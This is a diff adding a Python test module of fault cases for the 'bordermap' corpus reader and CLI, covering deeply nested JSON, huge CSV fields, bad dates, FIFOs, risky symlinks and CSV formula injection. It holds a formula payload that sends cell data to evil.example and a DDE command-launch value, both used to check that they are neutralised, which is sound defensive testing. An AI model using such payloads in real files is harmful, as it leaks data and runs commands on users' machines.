@@ -1,0 +1,318 @@
+"""Issue 24's fault cases, one function each, for ``benchmarks/fault_counts.py``: real files, real runs.
+
+Each case builds its input in the folder it is given, runs the real code (the corpus reader, a
+``bordermap report`` or ``bordermap corpus`` process) and returns ``(outcome, detail, ok)``: the outcome
+is one of :data:`OUTCOMES`, ``ok`` whether the case was handled that way.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import signal
+import subprocess
+import sys
+from collections.abc import Callable
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+ROOT = Path(__file__).resolve().parent.parent
+SEED = ROOT / "seeds" / "004_08f2487d190f4389.txt"
+TEXT = "Migrants crossed from Belarus into Lithuania near Druskininkai on Monday."
+OUTCOMES = ("rejected alone", "bounded", "one-line error", "nothing mixed or lost", "nothing executed")
+
+Case = Callable[[Path], tuple[str, str, bool]]
+CASES: dict[str, Case] = {}
+
+
+def case(name: str) -> Callable[[Case], Case]:
+    def add(fn: Case) -> Case:
+        CASES[name] = fn
+        return fn
+
+    return add
+
+
+@contextmanager
+def deadline(seconds: int) -> Any:
+    def fail(*_: Any) -> None:
+        raise TimeoutError(f"still running after {seconds} s")
+
+    old = signal.signal(signal.SIGALRM, fail)
+    signal.alarm(seconds)
+    try:
+        yield
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, old)
+
+
+def jsonl(path: Path, rows: list[Any]) -> Path:
+    with open(path, "wb") as fh:
+        for r in rows:
+            fh.write((r if isinstance(r, bytes) else json.dumps(r).encode()) + b"\n")
+    return path
+
+
+def read(*inputs: str | Path, max_bytes: int = 1_000_000, seconds: int = 60) -> tuple[list[str], list[dict[str, Any]]]:
+    """The corpus reader on ``inputs`` (planned, every partition read): ids kept, rejected rows."""
+    from bordermap.corpus.inputs import plan_partitions, read_partition
+
+    good: list[str] = []
+    bad: list[dict[str, Any]] = []
+    with deadline(seconds):
+        for part in plan_partitions([str(i) for i in inputs]):
+            got = read_partition(part, max_bytes=max_bytes)
+            good += [g.article.id for g in got.good]
+            bad += got.rejected
+    return good, bad
+
+
+def alone(good: list[str], want: list[str], bad: list[dict[str, Any]], prefix: str) -> tuple[str, str, bool]:
+    """'rejected alone': the good records kept, exactly one rejected row, with the reason expected."""
+    reasons = [r["reason"] for r in bad]
+    ok = good == want and len(bad) == 1 and reasons[0].startswith(prefix)
+    return "rejected alone", (reasons[0] if reasons else "nothing rejected")[:90], ok
+
+
+def cli(*args: str, timeout: float = 300, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    run_env = dict(os.environ, PYTHONPATH=str(ROOT)) | (env or {})
+    return subprocess.run(
+        [sys.executable, "-m", "bordermap", *args],
+        cwd=ROOT,
+        env=run_env,
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+    )
+
+
+def one_line(proc: subprocess.CompletedProcess[str], *, needle: str) -> tuple[str, str, bool]:
+    lines = proc.stderr.strip().splitlines()
+    ok = proc.returncode == 2 and len(lines) == 1 and lines[0].startswith("bordermap: error:") and needle in lines[0]
+    return "one-line error", (lines[-1] if lines else f"rc {proc.returncode}, no message")[:110], ok
+
+
+# --------------------------------------------------------------------------- records and files (item 1)
+
+
+@case("JSON Lines record nested 100,000 deep")
+def deep_json(tmp: Path) -> tuple[str, str, bool]:
+    deep = b'{"id": "deep", "text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
+    p = jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, deep, {"id": "b", "text": TEXT}])
+    good, bad = read(p)
+    return alone(good, ["a", "b"], bad, "nested too deep")
+
+
+@case("CSV field of 5 MB")
+def big_csv_field(tmp: Path) -> tuple[str, str, bool]:
+    p = tmp / "n.csv"
+    with open(p, "w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerows([("id", "date", "text"), ("a", "2021-07-01", TEXT), ("huge", "2021-07-01", "Vilnius " * 650_000)])
+        w.writerow(("b", "2021-07-02", TEXT))
+    good, bad = read(p)
+    return alone(good, ["a", "b"], bad, "oversized")
+
+
+def _parquet(path: Path, ids: list[Any], days: list[int], **columns: Any) -> Path:
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    table = pa.table({"id": ids, "date": pa.array(days, type=pa.date32()), "text": [TEXT] * len(ids), **columns})
+    pq.write_table(table, path)
+    return path
+
+
+@case("Parquet date past year 9999")
+def parquet_far(tmp: Path) -> tuple[str, str, bool]:
+    good, bad = read(_parquet(tmp / "d.parquet", ["a", "far", "b"], [18_809, 10**8, 18_810]))
+    return alone(good, ["a", "b"], bad, "bad date")
+
+
+@case("Parquet date before year 1")
+def parquet_early(tmp: Path) -> tuple[str, str, bool]:
+    good, bad = read(_parquet(tmp / "d.parquet", ["a", "early", "b"], [18_809, -(10**8), 18_810]))
+    return alone(good, ["a", "b"], bad, "bad date")
+
+
+@case("date 20210712")
+def date_basic(tmp: Path) -> tuple[str, str, bool]:
+    p = jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, {"id": "x", "date": "20210712", "text": TEXT}])
+    good, bad = read(p)
+    return alone(good, ["a"], bad, "bad date '20210712'")
+
+
+@case("date 2021-W27-1")
+def date_week(tmp: Path) -> tuple[str, str, bool]:
+    p = jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, {"id": "x", "date": "2021-W27-1", "text": TEXT}])
+    good, bad = read(p)
+    return alone(good, ["a"], bad, "bad date '2021-W27-1'")
+
+
+@case("dict id")
+def dict_id(tmp: Path) -> tuple[str, str, bool]:
+    good, bad = read(jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, {"id": {"x": 1}, "text": TEXT}]))
+    return alone(good, ["a"], bad, "id is not text nor an integer (dict)")
+
+
+@case("bool id")
+def bool_id(tmp: Path) -> tuple[str, str, bool]:
+    good, bad = read(jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, {"id": True, "text": TEXT}]))
+    return alone(good, ["a"], bad, "id is not text nor an integer (bool)")
+
+
+@case("duplicate id in one file")
+def dup_id(tmp: Path) -> tuple[str, str, bool]:
+    good, bad = read(jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, {"id": "a", "text": TEXT + " 2"}]))
+    return alone(good, ["a"], bad, "duplicate id 'a'")
+
+
+@case("Parquet file with two text columns")
+def two_text(tmp: Path) -> tuple[str, str, bool]:
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    table = pa.Table.from_arrays([pa.array(["x"]), pa.array([TEXT]), pa.array(["y"])], names=["id", "text", "text"])
+    pq.write_table(table, tmp / "two.parquet")
+    jsonl(tmp / "ok.jsonl", [{"id": "a", "text": TEXT}])
+    good, bad = read(tmp)
+    return alone(good, ["a"], bad, "Parquet file with the column(s) text twice")
+
+
+@case("damaged Parquet pages")
+def damaged(tmp: Path) -> tuple[str, str, bool]:
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    p = tmp / "dmg.parquet"
+    pq.write_table(pa.table({"id": [f"x{i}" for i in range(100)], "text": [TEXT] * 100}), p, compression="zstd")
+    raw = bytearray(p.read_bytes())
+    for i in range(200, len(raw) // 2):
+        raw[i] = (raw[i] * 7 + 13) % 256
+    p.write_bytes(bytes(raw))
+    jsonl(tmp / "ok.jsonl", [{"id": "a", "text": TEXT}])
+    good, bad = read(tmp)
+    outcome, detail, ok = alone(good, ["a"], bad, "unreadable file")
+    return outcome, detail, ok and bad[0]["file"] == str(p)
+
+
+@case("input file removed during the run")
+def vanished(tmp: Path) -> tuple[str, str, bool]:
+    from bordermap.corpus.inputs import plan_partitions, read_partition
+
+    jsonl(tmp / "a.jsonl", [{"id": "a", "text": TEXT}])
+    b = jsonl(tmp / "b.jsonl", [{"id": "b", "text": TEXT}])
+    parts = plan_partitions([str(tmp)])
+    b.unlink()
+    got = [read_partition(p) for p in parts]
+    good = [g.article.id for x in got for g in x.good]
+    bad = [r for x in got for r in x.rejected]
+    outcome, detail, ok = alone(good, ["a"], bad, "unreadable file: No such file")
+    return outcome, detail, ok and bad[0]["file"] == str(b)
+
+
+def _glob_dir(tmp: Path) -> Path:
+    d = tmp / "data"
+    d.mkdir()
+    jsonl(d / "a.jsonl", [{"id": "a", "text": TEXT}])
+    return d
+
+
+@case("glob matching a FIFO")
+def glob_fifo(tmp: Path) -> tuple[str, str, bool]:
+    d = _glob_dir(tmp)
+    os.mkfifo(d / "f.jsonl")
+    good, bad = read(str(d / "*.jsonl"), seconds=20)
+    return alone(good, ["a"], bad, "not a regular file (FIFO)")
+
+
+@case("glob matching a link to /dev/zero")
+def glob_zero(tmp: Path) -> tuple[str, str, bool]:
+    d = _glob_dir(tmp)
+    (d / "z.jsonl").symlink_to("/dev/zero")
+    good, bad = read(str(d / "*.jsonl"), seconds=20)
+    return alone(good, ["a"], bad, "not a regular file (character device)")
+
+
+@case("folder with a link to a file outside it")
+def link_out(tmp: Path) -> tuple[str, str, bool]:
+    d = _glob_dir(tmp)
+    (d / "o.jsonl").symlink_to(jsonl(tmp / "secret.jsonl", [{"id": "secret", "text": TEXT}]))
+    good, bad = read(d)
+    return alone(good, ["a"], bad, "a link to a file outside the folder")
+
+
+@case("two identical input files")
+def identical(tmp: Path) -> tuple[str, str, bool]:
+    from bordermap.corpus.inputs import plan_partitions, read_partition
+
+    a = jsonl(tmp / "a.jsonl", [{"id": "x", "text": TEXT}])
+    b = tmp / "b.jsonl"
+    b.write_bytes(a.read_bytes())
+    got = [read_partition(p) for p in plan_partitions([str(a), str(b)])]
+    origins = [g.origin.split("#")[0] for x in got for g in x.good]
+    ok = len({x.digest for x in got}) == 2 and origins == [str(a), str(b)]
+    return "nothing mixed or lost", f"{len({x.digest for x in got})} partition digests; each row from its own file", ok
+
+
+# --------------------------------------------------------------------------- CSV formulas (item 2)
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _formula_cells(path: Path) -> tuple[int, int]:
+    """(cells that would run as a formula, cells neutralised) of a CSV file."""
+    from bordermap._csvcells import _NUMBER, FORMULA_STARTS
+
+    with open(path, encoding="utf-8", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    live = sum(1 for c in cells if c.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(c))
+    return live, sum(1 for c in cells if c.startswith("'"))
+
+
+@case("formula cells in report claims.csv")
+def report_formulas(tmp: Path) -> tuple[str, str, bool]:
+    art = tmp / "evil.txt"
+    art.write_text(f" date 2021-07-12 {FORMULA} @SUM(1) said: a border of 680 km.", encoding="utf-8")
+    proc = cli("report", str(art), "--countries", "LTU", "BLR", "--out", str(tmp / "out"))
+    live, fixed = _formula_cells(tmp / "out" / "claims.csv")
+    return "nothing executed", f"rc {proc.returncode}; {live} formula cells, {fixed} neutralised", live == 0 < fixed
+
+
+@case("formula cells in corpus CSVs")
+def corpus_formulas(tmp: Path) -> tuple[str, str, bool]:
+    rows = [{"id": "@a", "date": "2021-07-12", "text": f"{FORMULA} a border of 680 km.", "source": "=cmd|'/C calc'!A0"}]
+    jsonl(tmp / "n.jsonl", rows)
+    proc = cli("corpus", str(tmp / "n.jsonl"), "--out", str(tmp / "out"), "--workers", "1")
+    got = [_formula_cells(p) for p in sorted((tmp / "out").glob("*.csv"))]
+    live, fixed = sum(g[0] for g in got), sum(g[1] for g in got)
+    return "nothing executed", f"rc {proc.returncode}; {live} formula cells, {fixed} neutralised", live == 0 < fixed
+
+
+def run_all(tmp: Path, only: list[str] | None = None) -> list[tuple[str, str, str, bool]]:
+    """Every case (or those named): ``(case, outcome, detail, ok)``; a case that raises fails, with its error."""
+    rows = []
+    for k, (name, fn) in enumerate(CASES.items()):
+        if only and name not in only:
+            continue
+        folder = tmp / f"case{k}"
+        folder.mkdir()
+        try:
+            outcome, detail, ok = fn(folder)
+        except Exception as err:
+            outcome, detail, ok = "error", f"{type(err).__name__}: {' '.join(str(err).split())}"[:110], False
+        rows.append((name, outcome, detail, ok))
+    return rows
+
+
+def table(rows: list[tuple[str, str, str, bool]]) -> str:
+    """The rows as a plain-text table: case, outcome, pass/fail, detail."""
+    w = max(len(r[0]) for r in rows)
+    lines = [f"{'case':<{w}}  {'outcome':<22}  result  detail", "-" * (w + 60)]
+    for name, outcome, detail, ok in rows:
+        lines.append(f"{name:<{w}}  {outcome:<22}  {'pass' if ok else 'FAIL':<6}  {detail}")
+    lines.append(f"{sum(r[3] for r in rows)} of {len(rows)} cases handled")
+    return "\n".join(lines)
